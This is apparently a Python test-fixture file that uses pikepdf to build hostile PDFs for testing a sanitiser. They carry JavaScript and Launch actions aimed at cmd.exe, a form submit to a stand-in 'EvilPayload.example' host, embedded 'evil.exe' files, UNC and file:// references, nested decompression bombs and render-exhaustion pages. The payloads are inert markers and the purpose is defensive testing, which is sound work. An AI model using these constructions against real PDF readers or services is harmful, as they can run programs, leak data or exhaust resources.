"""Malicious PDFs: they run actions, contain hidden files, decompress to huge sizes, or are
broken."""

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.support.files import a_pdf

# A marker for content that must never reach a debtor.
EVIL = b"EvilPayload"
_SCRIPT = f"app.alert('{EVIL.decode()}')"


def a_pdf_with(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(595, 842))
        change(pdf)
        pdf.save(out, **options)
    return out.getvalue()


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(_SCRIPT))


def _file(pdf: pikepdf.Pdf) -> Dictionary:
    return Dictionary(
        Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=pdf.make_stream(EVIL))
    )


def _annotate(pdf: pikepdf.Pdf, **entries: Any) -> None:
    note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def _act(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    """Add an action that runs when a reader clicks a link."""
    return lambda pdf: _annotate(pdf, Subtype=Name.Link, A=action)


def _set(name: str, make: Callable[[pikepdf.Pdf], Any]) -> Callable[[pikepdf.Pdf], None]:
    """Set an entry of the document catalogue."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root[Name(name)] = make(pdf)

    return change


def _hide_deep(pdf: pikepdf.Pdf) -> None:
    inner: Any = _script()
    for _ in range(60):
        inner = Array([Dictionary(X=inner)])
    pdf.pages[0].obj.PieceInfo = Dictionary(Deep=inner)


def _act_on_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_script())


def _names(part: str, make: Callable[[pikepdf.Pdf], Any]) -> Callable[[pikepdf.Pdf], None]:
    tree = Name(part)
    return _set("/Names", lambda pdf: Dictionary({
        str(tree): Dictionary(Names=Array([String("a"), make(pdf)]))
    }))  # fmt: skip


def _form(pdf: pikepdf.Pdf) -> Dictionary:
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=_script()))
    return Dictionary(Fields=Array([pdf.make_indirect(field)]), XFA=pdf.make_stream(EVIL))


def _address(text: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(text))


_EVIL = EVIL.decode()
_CHANGES: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "script when opened": _set("/OpenAction", lambda _: _script()),
    "script of the catalogue": _set("/AA", lambda _: Dictionary(WC=_script())),
    "script of a page": _act_on_page,
    "script by name": _names("/JavaScript", lambda _: _script()),
    "script behind a link": _act(_script()),
    "script nested deep": _hide_deep,
    "launches a program": _act(Dictionary(
        S=Name.Launch, F=String(_EVIL), Win=Dictionary(F=String("cmd.exe"), P=String(_EVIL))
    )),
    "chained actions": _act(Dictionary(
        S=Name.GoTo, D=String("a"), Next=Array([Dictionary(S=Name.Launch, F=String(_EVIL))])
    )),
    "opens another file": _act(Dictionary(S=Name.GoToR, F=String(_EVIL), D=String("a"))),
    "opens an embedded file": _act(Dictionary(S=Name.GoToE, T=Dictionary(N=String(_EVIL)))),
    "sends a form": _act(Dictionary(S=Name.SubmitForm, F=String(f"https://{_EVIL}.example"))),
    "imports data": _act(Dictionary(S=Name.ImportData, F=String(_EVIL))),
    "link to a script": _act(_address(f"javascript:{_EVIL}")),
    "link to a file": _act(_address(f"file:///{_EVIL}")),
    "form with scripts and XFA": _set("/AcroForm", _form),
    "embedded file": _names("/EmbeddedFiles", _file),
    "file as a note": lambda pdf: _annotate(pdf, Subtype=Name.FileAttachment, FS=_file(pdf)),
    "associated file": _set("/AF", lambda pdf: Array([_file(pdf)])),
    "rich media": lambda pdf: _annotate(
        pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary(A=pdf.make_stream(EVIL))
    ),
    "film": lambda pdf: _annotate(pdf, Subtype=Name.Movie, Movie=Dictionary(F=String(_EVIL))),
    "sound": lambda pdf: _annotate(pdf, Subtype=Name.Sound, Sound=pdf.make_stream(EVIL)),
    "content in another file": lambda pdf: pdf.pages[0].obj.__setitem__(
        Name.Contents, pdf.make_stream(b"", {"/F": String(f"\\\\{_EVIL}\\a")})
    ),
}  # fmt: skip


def _pack_nothing(megabytes: int) -> bytes:
    """Compress zeros as zlib would. All blocks of one million bytes are the same, so only one is
    compressed."""
    nothing, packer = bytes(1_000_000), zlib.compressobj()
    first, again = (packer.compress(nothing) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    # The Adler-32 checksum of zeros.
    checksum = (megabytes * len(nothing) % 65_521 << 16 | 1).to_bytes(4)
    return first + again * (megabytes - 1) + packer.flush()[:-4] + checksum


def _a_bomb(rounds: int) -> bytes:
    """Return 600 MB of zeros, compressed this many times."""
    filters, content = Array([Name.FlateDecode] * rounds), _pack_nothing(600)
    for _ in range(rounds - 1):
        content = zlib.compress(content)
    return a_pdf_with(lambda pdf: pdf.pages[0].obj.__setitem__(
        Name.Contents, pdf.make_stream(content, {"/Filter": filters})
    ), compress_streams=False)  # fmt: skip


def _a_huge_picture(pdf: pikepdf.Pdf) -> None:
    entries = {"/Subtype": Name.Image, "/Width": 90_000, "/Height": 90_000}
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=pdf.make_stream(b"x", entries)))


def _a_page_tree_that_bites_its_tail() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
        b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF"
    )


# Files that are made harmless.
ACTING = {name: a_pdf_with(change) for name, change in _CHANGES.items()} | {
    "script in an object stream": a_pdf_with(
        _CHANGES["script when opened"], object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "encrypted for its owner alone": a_pdf_with(
        _CHANGES["script when opened"], encryption=pikepdf.Encryption(owner="owner", user="")
    ),
    "hides a page in its tail": a_pdf() + b"<script>" + EVIL + b"</script>\n%%EOF",
    "hides a page between objects": a_pdf().replace(
        b"\nendobj", b"\nendobj\n%<script>" + EVIL + b"</script>", 1
    ),
}
# Files that are rejected.
BROKEN: dict[str, Callable[[], bytes]] = {
    "bomb": lambda: _a_bomb(1),
    "bomb in a bomb": lambda: _a_bomb(2),
    "picture of 8,100 million pixels": lambda: a_pdf_with(_a_huge_picture),
    "page tree without end": _a_page_tree_that_bites_its_tail,
    "no page": lambda: a_pdf(0),
    "cut off": lambda: a_pdf(3)[:-200],
    "encrypted": lambda: a_pdf_with(
        lambda _: None, encryption=pikepdf.Encryption(owner="a", user="b")
    ),
    "nested 100,000 deep": lambda: b"%PDF-1.4\n1 0 obj" + b"[" * 100_000 + b"\n%%EOF",
    "random": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF",
}


def _a_page_that_draws_itself_a_billion_times(pdf: pikepdf.Pdf) -> None:
    """Each of nine forms draws the next form ten times; the last one fills the page."""
    form = pdf.make_stream(b"0 0 595 842 re f", _form_entries())
    for _ in range(9):
        entries = _form_entries()
        entries["/Resources"] = Dictionary(XObject=Dictionary(X=form))
        form = pdf.make_stream(b"/X Do " * 10, entries)
    page = pdf.pages[0].obj
    page.Resources = Dictionary(XObject=Dictionary(X=form))
    page.Contents = pdf.make_stream(b"/X Do")


def _form_entries() -> dict[str, Any]:
    box = Array([0, 0, 595, 842])
    return {"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": box}


def _give_size(box: Array) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.MediaBox = box
        pdf.pages[0].obj.UserUnit = 75_000

    return change


# Files that are well-formed but cannot be rendered, or cost more than a page may.
UNDRAWABLE: dict[str, Callable[[], bytes]] = {
    "draws itself a billion times": lambda: a_pdf_with(_a_page_that_draws_itself_a_billion_times),
    "10,000 pages": lambda: a_pdf(10_000),
    **{name: make for name, make in BROKEN.items() if name != "picture of 8,100 million pixels"},
}
# Files that are rendered within the limits.
ODD: dict[str, Callable[[], bytes]] = {
    "a page of 400 kilometres": lambda: a_pdf_with(_give_size(Array([0, 0, 14_400, 14_400]))),
    "a page as a hair": lambda: a_pdf_with(_give_size(Array([0, 0, 1, 14_400]))),
    "a page turned inside out": lambda: a_pdf_with(_give_size(Array([600, 800, 0, 0]))),
    "a page of no size": lambda: a_pdf_with(_give_size(Array([0, 0, 0, 0]))),
    "a page of more than all": lambda: a_pdf_with(_give_size(Array([0, 0, 2**62, 2**62]))),
    "picture of 8,100 million pixels": BROKEN["picture of 8,100 million pixels"],
}
